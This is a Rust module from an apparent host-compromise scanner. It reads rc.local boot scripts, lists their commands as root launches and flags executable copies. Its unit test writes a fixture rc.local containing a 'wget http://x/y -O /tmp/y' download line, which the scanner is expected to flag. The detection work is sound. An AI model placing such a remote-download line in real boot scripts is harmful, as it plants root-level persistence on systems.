//! rc.local: commands run as root at every boot (`/etc/rc.local`, and
//! `/etc/rc.d/rc.local` on Red Hat's family). The runbook's first check: a `wget` or a
//! `/tmp/...` there that you did not add means the host is very likely compromised.

use std::{collections::HashSet, os::unix::fs::PermissionsExt};

use super::{
    advice,
    finding::{Finding, Findings, Severity},
    persistence::{Launch, Point, script_lines},
    root::Root,
};

const RC_LOCAL: &[&str] = &["/etc/rc.local", "/etc/rc.d/rc.local"];

/// The commands of each rc.local (one file read once, when one links to the other); an
/// executable rc.local is an info finding, since systemd then runs it at boot.
pub fn scan(root: &Root, out: &mut Findings) -> Vec<Launch> {
    let mut launches = Vec::new();
    let mut seen = HashSet::new();
    for &file in RC_LOCAL {
        let real = root.path(file);
        if !seen.insert(real.canonicalize().unwrap_or(real)) {
            continue;
        }
        let Some(text) = root.read(file, out) else {
            continue;
        };
        let commands = script_lines(&text);
        let mode = root.metadata(file).map(|m| m.permissions().mode() & 0o7777);
        if let Some(mode) = mode.filter(|mode| mode & 0o111 != 0) {
            out.add(Finding::new(
                "rc-local-executable",
                Severity::Info,
                format!("{file} is executable: it runs at every boot"),
                format!("{file} (mode {mode:04o}, {} commands)", commands.len()),
                advice::RC_LOCAL_EXECUTABLE,
            ));
        }
        launches.extend(
            commands
                .iter()
                .map(|(line, command)| Launch::new(Point::RcLocal, file, *line, command, command)),
        );
    }
    launches
}

#[cfg(test)]
mod tests {
    use std::{fs, os::unix::fs::symlink};

    use super::*;

    #[test]
    fn every_command_is_a_launch_and_a_link_is_read_once() {
        let tree = tempfile::tempdir().unwrap();
        let etc = tree.path().join("etc");
        fs::create_dir_all(etc.join("rc.d")).unwrap();
        let script = etc.join("rc.d/rc.local");
        fs::write(
            &script,
            "#!/bin/sh\n# boot\ntouch /var/lock/subsys/local\nwget http://x/y -O /tmp/y\nexit 0\n",
        )
        .unwrap();
        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
        symlink("rc.d/rc.local", etc.join("rc.local")).unwrap();
        let root = Root::open(tree.path()).unwrap();
        let mut out = Findings::default();
        let launches = scan(&root, &mut out);
        let lines: Vec<(&str, usize)> =
            launches.iter().map(|l| (l.file.as_str(), l.line)).collect();
        assert_eq!(
            lines,
            [
                ("/etc/rc.local", 3),
                ("/etc/rc.local", 4),
                ("/etc/rc.local", 5)
            ]
        );
        assert_eq!(out.found.len(), 1);
        assert_eq!(out.found[0].id, "rc-local-executable");
        assert_eq!(
            out.found[0].evidence,
            "/etc/rc.local (mode 0755, 3 commands)"
        );
        let flagged: Vec<_> = launches.iter().filter_map(Launch::finding).collect();
        assert_eq!(flagged.len(), 1);
        assert_eq!(
            flagged[0].evidence,
            "/etc/rc.local:4: wget http://x/y -O /tmp/y"
        );
    }
}
